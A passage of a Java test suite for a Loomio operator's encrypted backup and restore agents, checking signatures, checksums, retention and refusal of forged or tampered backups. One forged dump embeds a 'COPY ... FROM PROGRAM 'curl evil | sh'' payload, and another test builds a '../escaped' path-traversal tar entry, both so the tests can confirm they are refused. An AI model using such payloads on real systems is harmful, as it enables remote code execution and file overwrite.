package org.loomio.operator.backup;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.server.mock.EnableKubernetesMockClient;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/** The backup and restore agents end to end, on a directory and a real S3 server, without PostgreSQL. */
@EnableKubernetesMockClient(crud = true)
class BackupRestoreAgentTest {

  /** Many of these tests make an agent fail on purpose: its ERROR lines stay out of the build log. */
  @org.junit.jupiter.api.extension.RegisterExtension
  static final org.loomio.operator.testing.ExpectedLogs LOGS =
      org.loomio.operator.testing.ExpectedLogs.of("org.loomio.operator.backup");

  private static final String STACK = "team";
  private static final String PASSPHRASE = "a long passphrase, never printed";
  private static final ObjectMapper JSON = new ObjectMapper();
  private static S3Server s3;

  KubernetesClient client; // injected by the mock server extension

  @TempDir
  Path tmp;

  private Path backups;
  private Path scratch;
  private Path passphraseFile;
  private String bucket;
  private Path uploads;
  private Path secrets;
  private Path signingKey;
  private Path verificationKey;

  @BeforeAll
  static void startS3() throws Exception {
    s3 = new S3Server();
  }

  @AfterAll
  static void stopS3() throws Exception {
    s3.close();
  }

  @BeforeEach
  void setUp() throws Exception {
    backups = Files.createDirectories(tmp.resolve("backups"));
    scratch = Files.createDirectories(tmp.resolve("scratch"));
    passphraseFile = Files.writeString(tmp.resolve("passphrase"), PASSPHRASE + "\n");
    bucket = "b-" + UUID.randomUUID();
    s3.createBucket(bucket);
    uploads = AgentFixtures.uploads(tmp.resolve("uploads"));
    secrets = AgentFixtures.secretsMount(Files.createDirectories(tmp.resolve("secrets")));
    signingKey =
        Files.writeString(tmp.resolve("signing.asc"), TestKeys.signing().secretKeyRing());
    verificationKey =
        Files.writeString(tmp.resolve("verification.asc"), TestKeys.signing().publicKeyRing());
  }

  private BackupAgent.Options backupOptions(Path dump, boolean toS3, Retention.Policy policy) {
    return new BackupAgent.Options(
        STACK,
        dump,
        uploads,
        secrets,
        null,
        passphraseFile,
        backups,
        toS3 ? s3.settings(bucket, "backups") : null,
        policy,
        "loomio/loomio:v3.0.11",
        15,
        null,
        scratch,
        signingKey);
  }

  private record Run(int code, JsonNode summary, String line) {}

  private Run backup(String at, BackupAgent.Options options) throws Exception {
    AgentFixtures.Out out = new AgentFixtures.Out();
    Path log = tmp.resolve("termination-log");
    int code = new BackupAgent(AgentFixtures.at(at), BackupAgent.Destinations.DEFAULT)
        .execute(options, log, out.writer);
    String line = out.toString().strip();
    assertThat(line).doesNotContain("\n");
    assertThat(Files.readString(log).strip()).isEqualTo(line);
    assertThat(line.getBytes(StandardCharsets.UTF_8).length).isLessThan(Summary.LIMIT);
    return new Run(code, JSON.readTree(line), line);
  }

  private Run restore(RestoreAgent.Options options) throws Exception {
    AgentFixtures.Out out = new AgentFixtures.Out();
    Path log = tmp.resolve("restore-termination-log");
    int code = new RestoreAgent(() -> client, BackupAgent.Destinations.DEFAULT)
        .execute(options, log, out.writer);
    String line = out.toString().strip();
    assertThat(Files.readString(log).strip()).isEqualTo(line);
    return new Run(code, JSON.readTree(line), line);
  }

  private RestoreAgent.Options restoreOptions(
      String backup, boolean fromS3, Path databaseOut, Path uploadsTo, List<String> secretKeys) {
    return new RestoreAgent.Options(
        STACK,
        backup,
        fromS3 ? null : backups,
        fromS3 ? s3.settings(bucket, "backups") : null,
        null,
        passphraseFile,
        scratch,
        databaseOut,
        uploadsTo,
        secretKeys == null ? null : "loomio",
        secretKeys == null ? null : "team-credentials",
        secretKeys,
        false,
        verificationKey,
        false);
  }

  private Path dump(int size) throws Exception {
    return AgentFixtures.fakeDump(
        Files.createDirectories(tmp.resolve("dump")).resolve("database.dump"), size);
  }

  private void assertEmpty(Path dir) throws Exception {
    try (Stream<Path> s = Files.list(dir)) {
      assertThat(s.toList()).isEmpty();
    }
  }

  /** The operator's hash key and the servers' passwords never reach a backup, whoever holds its key. */
  @Test
  void theHashKeyAndTheServersPasswordsAreNeverBackedUp() throws Exception {
    Path mount = Files.createDirectories(tmp.resolve("credentials"));
    for (String key :
        List.of("SECRET_KEY_BASE", "OPERATOR_HASH_KEY", "POSTGRES_PASSWORD", "REDIS_PASSWORD")) {
      Files.writeString(mount.resolve(key), "value-of-" + key);
    }
    BackupAgent.Options options = new BackupAgent.Options(
        STACK,
        dump(1_000),
        uploads,
        mount,
        null,
        passphraseFile,
        backups,
        null,
        Retention.Policy.DEFAULT,
        "loomio/loomio:v3.0.11",
        15,
        null,
        scratch,
        signingKey);
    Run b = backup("2025-01-05T02:00:00Z", options);
    assertThat(b.code()).as(b.line()).isZero();
    java.io.ByteArrayOutputStream plain = new java.io.ByteArrayOutputStream();
    try (var in = Files.newInputStream(
        backups.resolve("team-20250105T020000Z").resolve("secrets.json.pgp"))) {
      OpenPgp.decryptWithPassphrase(PASSPHRASE.toCharArray()).decrypt(in, plain);
    }
    assertThat(JSON.readTree(plain.toByteArray()).fieldNames())
        .toIterable()
        .containsExactly("SECRET_KEY_BASE");
    assertThat(BackupAgent.NEVER_BACKED_UP)
        .containsExactlyInAnyOrder(
            org.loomio.operator.model.Credentials.HASH_KEY,
            org.loomio.operator.model.Credentials.POSTGRES_PASSWORD,
            org.loomio.operator.model.Credentials.REDIS_PASSWORD);
    assertThat(org.loomio.operator.render.backup.BackupPodTemplate.RESTORABLE_SECRET_KEYS)
        .as("a restore never needs what is left out")
        .doesNotContainAnyElementsOf(BackupAgent.NEVER_BACKED_UP);
  }

  @Test
  void backsUpToADirectoryAndS3ThenRestoresFromS3() throws Exception {
    Path dump = dump(3_000_000);
    byte[] dumpBytes = Files.readAllBytes(dump);
    Map<String, String> uploadsTree = AgentFixtures.tree(uploads);

    Run b = backup("2025-01-05T02:00:00Z", backupOptions(dump, true, Retention.Policy.DEFAULT));
    assertThat(b.code()).as(b.line()).isZero();
    String name = "team-20250105T020000Z";
    assertThat(b.summary().path("backup").asText()).isEqualTo(name);
    assertThat(b.summary().path("complete").asBoolean()).isTrue();
    assertThat(b.summary().path("createdAt").asText()).isEqualTo("2025-01-05T02:00:00Z");
    assertThat(b.summary().path("destinations").toString()).isEqualTo("[\"volume\",\"s3\"]");
    assertThat(b.summary().path("objects"))
        .extracting(o -> o.path("name").asText())
        .containsExactly("database.dump.pgp", "uploads.tar.pgp", "secrets.json.pgp");
    assertThat(b.summary().path("pruned")).isEmpty();
    assertThat(dump).doesNotExist(); // the plaintext dump is gone
    assertEmpty(scratch);

    // the same layout in both places; the manifest describes it
    assertThat(AgentFixtures.tree(backups).keySet())
        .containsExactly(
            name,
            name + "/database.dump.pgp",
            name + "/manifest.json",
            name + "/manifest.json.sig",
            name + "/secrets.json.pgp",
            name + "/uploads.tar.pgp");
    assertThat(s3.keys(bucket))
        .containsExactlyInAnyOrder(
            "backups/" + name + "/database.dump.pgp",
            "backups/" + name + "/manifest.json",
            "backups/" + name + "/manifest.json.sig",
            "backups/" + name + "/secrets.json.pgp",
            "backups/" + name + "/uploads.tar.pgp");
    assertThat(b.summary().path("signedBy").asText())
        .isEqualTo(TestKeys.signing().fingerprint());
    Manifest m = new DirectoryDestination(backups, STACK).readManifest(name).orElseThrow();
    assertThat(m.formatVersion()).isEqualTo(1);
    assertThat(m.stack()).isEqualTo(STACK);
    assertThat(m.loomioImage()).isEqualTo("loomio/loomio:v3.0.11");
    assertThat(m.postgresVersion()).isEqualTo(15);
    assertThat(m.uploadsLocation()).isEqualTo("volume");
    assertThat(m.encryption()).isEqualTo(new Manifest.Encryption("passphrase", null));
    assertThat(m.object("database").orElseThrow().plaintextBytes()).isEqualTo(3_000_000);
    for (Manifest.Entry e : m.objects()) {
      assertThat(Digests.sha256(backups.resolve(name).resolve(e.name())))
          .isEqualTo(new Digests.Result(e.sha256(), e.bytes()));
      assertThat(b.summary().toString()).contains(e.sha256());
    }

    // restore from S3: the dump, the uploads (replacing what is there) and two keys of the Secret
    Path restoredUploads = Files.createDirectories(tmp.resolve("restored-uploads"));
    Files.writeString(restoredUploads.resolve("stale-file"), "goes away");
    Files.createDirectories(restoredUploads.resolve("stale-dir/sub"));
    client
        .secrets()
        .inNamespace("loomio")
        .resource(new SecretBuilder()
            .withNewMetadata()
            .withName("team-credentials")
            .endMetadata()
            .addToData(Map.of(
                "SECRET_KEY_BASE",
                b64("changed"),
                "DEVISE_SECRET",
                b64("changed"),
                "POSTGRES_PASSWORD",
                b64("keep-me")))
            .build())
        .create();
    Path databaseOut = Files.createDirectories(tmp.resolve("restore")).resolve("database.dump");

    Run r = restore(restoreOptions(
        "latest", true, databaseOut, restoredUploads, List.of("SECRET_KEY_BASE", "BINARY_VALUE")));
    assertThat(r.code()).as(r.line()).isZero();
    assertThat(r.summary().path("backup").asText()).isEqualTo(name);
    assertThat(r.summary().path("restored").toString())
        .isEqualTo("[\"database\",\"secrets\",\"uploads\"]");
    assertThat(r.summary().path("source").asText()).isEqualTo("s3");
    assertThat(Files.readAllBytes(databaseOut)).isEqualTo(dumpBytes);
    uploadsTree.remove("link-out"); // links are not backed up
    assertThat(AgentFixtures.tree(restoredUploads)).isEqualTo(uploadsTree);
    assertThat(Files.getLastModifiedTime(restoredUploads.resolve("ab/cd/abcdef123456"))
            .toInstant())
        .hasToString("2024-06-01T10:00:00Z");
    Secret secret =
        client.secrets().inNamespace("loomio").withName("team-credentials").get();
    assertThat(secret.getData())
        .containsEntry("SECRET_KEY_BASE", b64(AgentFixtures.SECRETS.get("SECRET_KEY_BASE")))
        .containsEntry("BINARY_VALUE", b64(AgentFixtures.SECRETS.get("BINARY_VALUE")))
        .containsEntry("DEVISE_SECRET", b64("changed"))
        .containsEntry("POSTGRES_PASSWORD", b64("keep-me"));
    assertEmpty(scratch);
    assertThat(r.line()).doesNotContain(b64(AgentFixtures.SECRETS.get("SECRET_KEY_BASE")));

    // and from the directory, by name
    Files.delete(databaseOut);
    Run fromDir = restore(restoreOptions(name, false, databaseOut, null, null));
    assertThat(fromDir.code()).as(fromDir.line()).isZero();
    assertThat(fromDir.summary().path("restored").toString()).isEqualTo("[\"database\"]");
    assertThat(Files.readAllBytes(databaseOut)).isEqualTo(dumpBytes);
  }

  private static String b64(String s) {
    return b64(s.getBytes(StandardCharsets.UTF_8));
  }

  private static String b64(byte[] b) {
    return Base64.getEncoder().encodeToString(b);
  }

  @Test
  void aTamperedOrTruncatedObjectFailsTheRestoreBeforeAnythingIsWritten() throws Exception {
    assertThat(backup(
                "2025-01-05T02:00:00Z",
                backupOptions(dump(500_000), true, Retention.Policy.DEFAULT))
            .code())
        .isZero();
    String name = "team-20250105T020000Z";
    Path restoredUploads = Files.createDirectories(tmp.resolve("restored-uploads"));
    Files.writeString(restoredUploads.resolve("current-file"), "must survive a failed restore");
    Map<String, String> before = AgentFixtures.tree(restoredUploads);
    Path databaseOut = Files.createDirectories(tmp.resolve("restore")).resolve("database.dump");

    // a flipped byte in the middle of the uploads object on the volume
    Path object = backups.resolve(name).resolve("uploads.tar.pgp");
    byte[] bytes = Files.readAllBytes(object);
    bytes[bytes.length / 2] ^= 0x01;
    Files.write(object, bytes);
    Run r = restore(restoreOptions(name, false, databaseOut, restoredUploads, null));
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.summary().path("backup").asText()).isEqualTo(name);
    assertThat(r.summary().path("restored")).isEmpty();
    assertThat(r.summary().path("error").asText())
        .contains("uploads.tar.pgp", "does not match its manifest", "nothing was restored");
    assertThat(databaseOut).doesNotExist();
    assertThat(AgentFixtures.tree(restoredUploads)).isEqualTo(before);
    assertEmpty(scratch);
    assertThat(databaseOut.getParent()).isEmptyDirectory();

    // a truncated database object in the bucket
    byte[] db = Files.readAllBytes(backups.resolve(name).resolve("database.dump.pgp"));
    s3.putRaw(
        bucket,
        "backups/" + name + "/database.dump.pgp",
        java.util.Arrays.copyOf(db, db.length - 100));
    Run t = restore(restoreOptions("latest", true, databaseOut, restoredUploads, null));
    assertThat(t.code()).isEqualTo(1);
    assertThat(t.summary().path("error").asText())
        .contains("database.dump.pgp", "does not match its manifest");
    assertThat(databaseOut).doesNotExist();
    assertThat(AgentFixtures.tree(restoredUploads)).isEqualTo(before);
  }

  @Test
  void anArchiveEscapingTheUploadsDirectoryIsRefusedBeforeAnythingIsRestored() throws Exception {
    // a backup whose checksums are right but whose tar holds "../escaped": made by hand
    String name = "team-20250105T020000Z";
    OpenPgp.Encryptor enc = OpenPgp.encryptWithPassphrase(PASSPHRASE.toCharArray());
    DirectoryDestination dest = new DirectoryDestination(backups, STACK);
    List<Manifest.Entry> entries = new ArrayList<>();
    byte[] dumpBytes = Files.readAllBytes(dump(1000));
    entries.add(store(dest, name, enc, "database", dumpBytes));
    ByteArrayOutputStream tarBytes = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(tarBytes)) {
      for (String entryName : List.of("fine/file", "../escaped")) {
        TarArchiveEntry e = new TarArchiveEntry(entryName, true); // preserve the name as given
        e.setSize(2);
        tar.putArchiveEntry(e);
        tar.write("hi".getBytes(StandardCharsets.US_ASCII));
        tar.closeArchiveEntry();
      }
    }
    entries.add(store(dest, name, enc, "uploads", tarBytes.toByteArray()));
    signed(
        dest,
        new Manifest(
            1,
            name,
            STACK,
            "2025-01-05T02:00:00Z",
            null,
            null,
            "volume",
            null,
            new Manifest.Encryption("passphrase", null),
            entries));

    Path restoredUploads = Files.createDirectories(tmp.resolve("area/uploads"));
    Files.writeString(restoredUploads.resolve("current-file"), "stays");
    Path databaseOut = tmp.resolve("area/database.dump");
    Run r = restore(restoreOptions(name, false, databaseOut, restoredUploads, null));
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.summary().path("error").asText())
        .contains("'../escaped'", "refused", "nothing was restored");
    assertThat(LOGS.messages())
        .anySatisfy(m -> assertThat(m)
            .startsWith("ERROR RestoreAgent - restore failed")
            .contains("'../escaped'"));
    assertThat(databaseOut).doesNotExist();
    assertThat(tmp.resolve("area/escaped")).doesNotExist();
    assertThat(AgentFixtures.tree(restoredUploads)).containsOnlyKeys("current-file");
  }

  /** Writes a manifest with the stack's own signature, as the backup agent does. */
  private static void signed(Destination dest, Manifest m) throws Exception {
    dest.writeManifest(m, OpenPgp.signerFrom(TestKeys.signing().secretKeyRing()).sign(m.toJson()));
  }

  private Manifest.Entry store(
      Destination dest, String backup, OpenPgp.Encryptor enc, String kind, byte[] plain)
      throws Exception {
    Path file = tmp.resolve(kind + ".pgp");
    try (OutputStream out = Files.newOutputStream(file);
        OutputStream e = enc.open(out, kind)) {
      e.write(plain);
    }
    Digests.Result sha = Digests.sha256(file);
    String object = Manifest.OBJECT_NAMES.get(kind);
    dest.put(backup, object, file, sha.sha256());
    return new Manifest.Entry(object, kind, plain.length, sha.bytes(), sha.sha256());
  }

  @Test
  void latestIsTheNewestCompleteBackup() throws Exception {
    assertThat(backup(
                "2025-01-05T02:00:00Z", backupOptions(dump(1000), false, Retention.Policy.DEFAULT))
            .code())
        .isZero();
    assertThat(backup(
                "2025-01-06T02:00:00Z", backupOptions(dump(2000), false, Retention.Policy.DEFAULT))
            .code())
        .isZero();
    // a newer backup that never completed (no manifest)
    Path incomplete = Files.createDirectories(backups.resolve("team-20250107T020000Z"));
    Files.copy(
        backups.resolve("team-20250106T020000Z/database.dump.pgp"),
        incomplete.resolve("database.dump.pgp"));
    Path databaseOut = tmp.resolve("database.dump");

    Run latest = restore(restoreOptions("latest", false, databaseOut, null, null));
    assertThat(latest.summary().path("backup").asText())
        .as(latest.line())
        .isEqualTo("team-20250106T020000Z");
    assertThat(Files.size(databaseOut)).isEqualTo(2000);

    Run named = restore(restoreOptions("team-20250107T020000Z", false, databaseOut, null, null));
    assertThat(named.code()).isEqualTo(1);
    assertThat(named.summary().path("error").asText()).contains("incomplete");
    Run foreign = restore(restoreOptions("other-20250106T020000Z", false, databaseOut, null, null));
    assertThat(foreign.code()).isEqualTo(1);
    assertThat(foreign.summary().path("backup").isNull()).isTrue();
    assertThat(foreign.summary().path("error").asText())
        .contains("--backup must be 'latest' or a backup name");
  }

  @Test
  void prunesByRetentionOnlyThisStacksSignedBackups() throws Exception {
    // older complete backups made by the agent (signed), an old and a fresh incomplete one, another
    // stack's,
    // and "complete" ones this stack's key did not sign: unsigned (or from before signing) and
    // forged
    for (String old :
        List.of("2024-12-01T02:00:00Z", "2024-12-02T02:00:00Z", "2024-12-03T02:00:00Z")) {
      assertThat(backup(old, backupOptions(dump(1000), false, Retention.Policy.DEFAULT))
              .code())
          .isZero();
    }
    Files.createDirectories(backups.resolve("team-20241130T020000Z"));
    Files.writeString(
        backups.resolve("team-20241130T020000Z/manifest.json"), "{}"); // unsigned, unreadable
    Manifest forged = new Manifest(
        1,
        "team-20241129T020000Z",
        STACK,
        "2024-11-29T02:00:00Z",
        null,
        null,
        "none",
        null,
        new Manifest.Encryption("passphrase", null),
        List.of());
    new DirectoryDestination(backups, STACK)
        .writeManifest(
            forged,
            OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(forged.toJson()));
    Files.createDirectories(
        backups.resolve("team-20241204T020000Z")); // failed long ago: no manifest
    Files.createDirectories(
        backups.resolve("team-20250105T010000Z")); // an hour old, incomplete: may be running
    Files.createDirectories(backups.resolve("other-20241201T020000Z"));
    Files.writeString(backups.resolve("other-20241201T020000Z/manifest.json"), "{}");

    Run b = backup(
        "2025-01-05T02:00:00Z", backupOptions(dump(1000), false, new Retention.Policy(2, 0, 0, 0)));
    assertThat(b.code()).as(b.line()).isZero();
    assertThat(b.summary().path("pruned"))
        .extracting(JsonNode::asText)
        .containsExactly("team-20241201T020000Z", "team-20241202T020000Z", "team-20241204T020000Z");
    try (Stream<Path> left = Files.list(backups)) {
      assertThat(left.map(p -> p.getFileName().toString()).toList())
          .containsExactlyInAnyOrder(
              "team-20241203T020000Z",
              "team-20250105T010000Z",
              "team-20250105T020000Z",
              "other-20241201T020000Z",
              "team-20241130T020000Z",
              "team-20241129T020000Z");
    }
  }

  /** How a forger signs: not at all, with their own key, or with a signature copied from another manifest. */
  private enum Forgery {
    UNSIGNED,
    OTHER_KEY,
    COPIED_SIGNATURE,
    STACK_KEY
  }

  /**
   * A backup made by hand, as someone with write access to the store and the stack's PUBLIC key can make one:
   * valid encryption to the stack's recipient (alice), right checksums; the manifest signed as {@code how}.
   */
  private void forge(String name, String createdAt, byte[] dumpBytes, Forgery how)
      throws Exception {
    OpenPgp.Encryptor enc =
        OpenPgp.encryptTo(OpenPgp.readRecipients(TestKeys.alice().publicKeyRing()));
    DirectoryDestination dest = new DirectoryDestination(backups, STACK);
    Manifest m = new Manifest(
        1,
        name,
        STACK,
        createdAt,
        null,
        15,
        "none",
        null,
        new Manifest.Encryption("publicKey", List.of(TestKeys.alice().fingerprint())),
        List.of(store(dest, name, enc, "database", dumpBytes)));
    byte[] signature = switch (how) {
      case UNSIGNED -> null;
      case OTHER_KEY ->
        OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(m.toJson());
      case COPIED_SIGNATURE ->
        Files.readAllBytes(backups.resolve("team-20250105T020000Z/manifest.json.sig"));
      case STACK_KEY -> OpenPgp.signerFrom(TestKeys.signing().secretKeyRing()).sign(m.toJson());
    };
    dest.writeManifest(m, signature);
  }

  private BackupAgent.Options publicKeyBackup(Path dump) throws Exception {
    Path recipients =
        Files.writeString(tmp.resolve("recipients.asc"), TestKeys.alice().publicKeyRing());
    return new BackupAgent.Options(
        STACK,
        dump,
        null,
        null,
        recipients,
        null,
        backups,
        null,
        Retention.Policy.DEFAULT,
        null,
        15,
        null,
        scratch,
        signingKey);
  }

  private RestoreAgent.Options publicKeyRestore(
      String backup, Path databaseOut, boolean allowUnsigned) throws Exception {
    Path privateKey =
        Files.writeString(tmp.resolve("private.asc"), TestKeys.alice().secretKeyRing());
    return new RestoreAgent.Options(
        STACK,
        backup,
        backups,
        null,
        privateKey,
        null,
        scratch,
        databaseOut,
        null,
        null,
        null,
        null,
        false,
        verificationKey,
        allowUnsigned);
  }

  @Test
  void forgedBackupsAreRefusedByRestoreAndPassedOverByLatest() throws Exception {
    byte[] genuine = Files.readAllBytes(dump(1000));
    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code())
        .isZero();
    byte[] evil =
        "PGDMP -- COPY x FROM PROGRAM 'curl evil | sh'".getBytes(StandardCharsets.US_ASCII);
    forge("team-20250106T020000Z", "2025-01-06T02:00:00Z", evil, Forgery.UNSIGNED);
    forge("team-20250107T020000Z", "2025-01-07T02:00:00Z", evil, Forgery.OTHER_KEY);
    forge("team-20250108T020000Z", "2025-01-08T02:00:00Z", evil, Forgery.COPIED_SIGNATURE);
    Path databaseOut = tmp.resolve("database.dump");

    // latest: the newest backup this stack signed, never a newer forgery; the ones passed over are
    // reported
    Run latest = restore(publicKeyRestore("latest", databaseOut, false));
    assertThat(latest.code()).as(latest.line()).isZero();
    assertThat(latest.summary().path("backup").asText()).isEqualTo("team-20250105T020000Z");
    assertThat(latest.summary().path("signedBy").asText())
        .isEqualTo(TestKeys.signing().fingerprint());
    assertThat(Files.readAllBytes(databaseOut)).isEqualTo(genuine);
    assertThat(latest.summary().path("refusedBackups")).hasSize(3);
    assertThat(latest.summary().path("refusedBackups").toString())
        .contains("team-20250108T020000Z", "team-20250107T020000Z", "team-20250106T020000Z");
    Files.delete(databaseOut);

    // named: refused, saying why, with nothing downloaded or restored
    Map<String, String> why = Map.of(
        "team-20250106T020000Z", "has no signature (manifest.json.sig)",
        "team-20250107T020000Z", "which is not the stack's signing key",
        "team-20250108T020000Z", "does not match the manifest");
    for (Map.Entry<String, String> forged : why.entrySet()) {
      Run r = restore(publicKeyRestore(forged.getKey(), databaseOut, false));
      assertThat(r.code()).as(r.line()).isEqualTo(1);
      assertThat(r.summary().path("refused").asBoolean()).isTrue();
      assertThat(r.summary().path("error").asText())
          .contains(forged.getValue(), "nothing was restored");
      assertThat(databaseOut).doesNotExist();
      assertEmpty(scratch);
    }
    // a bad signature is a forgery, not an old backup: allowUnsigned does not let it through
    Run bad = restore(publicKeyRestore("team-20250107T020000Z", databaseOut, true));
    assertThat(bad.summary().path("refused").asBoolean()).as(bad.line()).isTrue();
    assertThat(databaseOut).doesNotExist();
  }

  @Test
  void onS3TooLatestPassesOverAForgeryAndANamedOneIsRefused() throws Exception {
    assertThat(backup(
                "2025-01-05T02:00:00Z", backupOptions(dump(1000), true, Retention.Policy.DEFAULT))
            .code())
        .isZero();
    // a newer backup written straight into the bucket, encrypted with the stack's passphrase,
    // unsigned
    String name = "team-20250106T020000Z";
    try (S3Destination bucketDest = new S3Destination(s3.settings(bucket, "backups"), STACK)) {
      OpenPgp.Encryptor enc = OpenPgp.encryptWithPassphrase(PASSPHRASE.toCharArray());
      Manifest m = new Manifest(
          1,
          name,
          STACK,
          "2025-01-06T02:00:00Z",
          null,
          15,
          "none",
          null,
          new Manifest.Encryption("passphrase", null),
          List.of(store(
              bucketDest,
              name,
              enc,
              "database",
              "PGDMP forged".getBytes(StandardCharsets.US_ASCII))));
      bucketDest.writeManifest(m);
    }
    Path databaseOut = tmp.resolve("database.dump");
    Run latest = restore(restoreOptions("latest", true, databaseOut, null, null));
    assertThat(latest.code()).as(latest.line()).isZero();
    assertThat(latest.summary().path("backup").asText()).isEqualTo("team-20250105T020000Z");
    assertThat(latest.summary().path("refusedBackups").toString())
        .contains(name, "has no signature");
    Files.delete(databaseOut);
    Run named = restore(restoreOptions(name, true, databaseOut, null, null));
    assertThat(named.summary().path("refused").asBoolean()).as(named.line()).isTrue();
    assertThat(databaseOut).doesNotExist();
  }

  @Test
  void backupsDatedInTheFutureAreRefusedEvenWhenSigned() throws Exception {
    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code())
        .isZero();
    byte[] evil = "PGDMP from the future".getBytes(StandardCharsets.US_ASCII);
    forge("team-20991231T235959Z", "2099-12-31T23:59:59Z", evil, Forgery.STACK_KEY);
    forge("team-20991230T000000Z", "2099-12-30T00:00:00Z", evil, Forgery.UNSIGNED);
    Path databaseOut = tmp.resolve("database.dump");

    Run latest = restore(publicKeyRestore("latest", databaseOut, false));
    assertThat(latest.summary().path("backup").asText())
        .as(latest.line())
        .isEqualTo("team-20250105T020000Z");
    assertThat(latest.summary().path("refusedBackups").toString()).contains("dated in the future");
    Files.delete(databaseOut);
    Run named = restore(publicKeyRestore("team-20991231T235959Z", databaseOut, false));
    assertThat(named.code()).isEqualTo(1);
    assertThat(named.summary().path("error").asText())
        .contains("team-20991231T235959Z is dated in the future");
    assertThat(databaseOut).doesNotExist();
    // within the allowed clock skew a backup is not "in the future"
    RestoreAgent skewed = new RestoreAgent(
        () -> client, BackupAgent.Destinations.DEFAULT, AgentFixtures.at("2025-01-05T01:57:00Z"));
    assertThat(skewed.execute(
            publicKeyRestore("latest", databaseOut, false), null, new AgentFixtures.Out().writer))
        .isZero();
  }

  @Test
  void anUnsignedBackupIsRestoredOnlyByNameWithAllowUnsigned() throws Exception {
    byte[] old = "PGDMP made before backups were signed".getBytes(StandardCharsets.US_ASCII);
    forge("team-20250101T020000Z", "2025-01-01T02:00:00Z", old, Forgery.UNSIGNED);
    Path databaseOut = tmp.resolve("database.dump");

    Run latest = restore(publicKeyRestore("latest", databaseOut, false));
    assertThat(latest.code()).isEqualTo(1);
    assertThat(latest.summary().path("error").asText())
        .contains("no complete backup of stack team", "is signed");
    Run latestAllowed = restore(publicKeyRestore("latest", databaseOut, true));
    assertThat(latestAllowed.summary().path("error").asText())
        .contains("--allow-unsigned needs a backup named");

    Run named = restore(publicKeyRestore("team-20250101T020000Z", databaseOut, true));
    assertThat(named.code()).as(named.line()).isZero();
    assertThat(named.summary().path("unsigned").asBoolean()).isTrue();
    assertThat(named.summary().has("signedBy")).isFalse();
    assertThat(Files.readAllBytes(databaseOut)).isEqualTo(old);
    assertThat(LOGS.messages())
        .anySatisfy(m -> assertThat(m).contains("restoring an UNSIGNED backup"));
  }

  @Test
  void aRestoreFailingAfterItWroteTheDumpLeavesNoPlaintextDump() throws Exception {
    Run b = backup(
        "2025-01-05T02:00:00Z", backupOptions(dump(10_000), false, Retention.Policy.DEFAULT));
    assertThat(b.code()).as(b.line()).isZero();
    Path out = tmp.resolve("restored.dump");
    // the credentials step comes after the dump is written: a Secret that is not there fails the
    // run then
    RestoreAgent.Options o = new RestoreAgent.Options(
        STACK,
        "latest",
        backups,
        null,
        null,
        passphraseFile,
        scratch,
        out,
        null,
        "loomio",
        "no-such-secret",
        List.of("SECRET_KEY_BASE"),
        false,
        verificationKey,
        false);
    Run r = restore(o);
    assertThat(r.code()).as(r.line()).isEqualTo(1);
    assertThat(r.summary().path("error").asText())
        .contains("Secret loomio/no-such-secret not found");
    assertThat(out).as("the pod fails, pg_restore never runs: the dump goes").doesNotExist();
    try (Stream<Path> left = Files.list(tmp)) {
      assertThat(left.map(p -> p.getFileName().toString()))
          .noneMatch(n -> n.contains("restored.dump"));
    }
    assertEmpty(scratch);
  }

  @Test
  void failuresAreOneJsonLineWithExitCode1() throws Exception {
    Path missing = tmp.resolve("no-such.dump");
    Run r = backup("2025-01-05T02:00:00Z", backupOptions(missing, false, Retention.Policy.DEFAULT));
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.summary().path("complete").asBoolean(true)).isFalse();
    assertThat(r.summary().path("error").asText()).contains("no such file", "no-such.dump");

    Path empty = Files.write(tmp.resolve("empty.dump"), new byte[0]);
    assertThat(backup("2025-01-05T02:00:00Z", backupOptions(empty, false, Retention.Policy.DEFAULT))
            .summary()
            .path("error")
            .asText())
        .contains("is empty");
    Path text = Files.writeString(tmp.resolve("text.dump"), "pg_dump: error: connection refused");
    assertThat(backup("2025-01-05T02:00:00Z", backupOptions(text, false, Retention.Policy.DEFAULT))
            .summary()
            .path("error")
            .asText())
        .contains("not a pg_dump custom-format archive");

    BackupAgent.Options both = new BackupAgent.Options(
        STACK,
        dump(1000),
        null,
        null,
        passphraseFile,
        passphraseFile,
        backups,
        null,
        Retention.Policy.DEFAULT,
        null,
        null,
        null,
        scratch,
        signingKey);
    assertThat(backup("2025-01-05T02:00:00Z", both).summary().path("error").asText())
        .contains("exactly one of");

    // an unreachable bucket: the run fails, nothing is complete anywhere, no plaintext is left
    Path dump = dump(1000);
    BackupAgent.Options unreachable = new BackupAgent.Options(
        STACK,
        dump,
        null,
        null,
        null,
        passphraseFile,
        backups,
        new S3Destination.Settings(
            s3.endpoint(),
            "no-such-bucket",
            "",
            null,
            true,
            null,
            null,
            S3Server.ACCESS_KEY,
            S3Server.SECRET_KEY,
            null,
            s3.caFile()),
        Retention.Policy.DEFAULT,
        null,
        null,
        null,
        scratch,
        signingKey);
    Run u = backup("2025-01-05T03:00:00Z", unreachable);
    assertThat(u.code()).isEqualTo(1);
